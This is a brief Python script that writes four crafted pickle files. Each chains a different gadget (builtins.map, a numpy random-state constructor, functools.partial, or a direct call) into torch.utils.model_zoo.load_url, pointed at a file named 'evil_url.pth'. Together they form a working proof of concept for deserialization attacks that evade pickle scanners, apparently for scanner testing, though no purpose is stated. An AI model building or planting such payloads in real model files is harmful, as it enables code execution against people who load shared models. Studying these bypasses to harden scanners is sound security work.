import struct
def w(n,b): open(n,'wb').write(b)
def U(s): b=s.encode(); return b'X'+struct.pack('<I',len(b))+b
url = U('file:///tmp/r/evil_url.pth')
LU = b"ctorch.utils.model_zoo\nload_url\n"
w('map.pkl', b"\x80\x02cbuiltins\nlist\ncbuiltins\nmap\n" + LU + b"]" + url + b"a\x86R\x85R.")
w('rs.pkl', b"\x80\x02cnumpy.random._pickle\n__randomstate_ctor\n" + url + LU + b"\x86R.")
w('partial.pkl', b"\x80\x02cfunctools\npartial\ncbuiltins\nint\n\x85R(" + LU + b"(" + url + b"tNNtb)R.")
w('direct.pkl', b"\x80\x02" + LU + url + b"\x85R.")
